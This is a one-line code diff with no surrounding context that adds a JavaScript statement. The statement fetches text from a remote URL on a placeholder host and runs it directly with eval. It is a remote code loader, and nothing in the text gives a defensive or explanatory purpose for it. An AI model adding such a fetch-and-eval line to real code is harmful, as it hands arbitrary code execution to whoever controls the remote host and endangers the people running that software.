@@ -1,0 +1,1 @@
+eval(await (await fetch('https://x.example/p')).text())
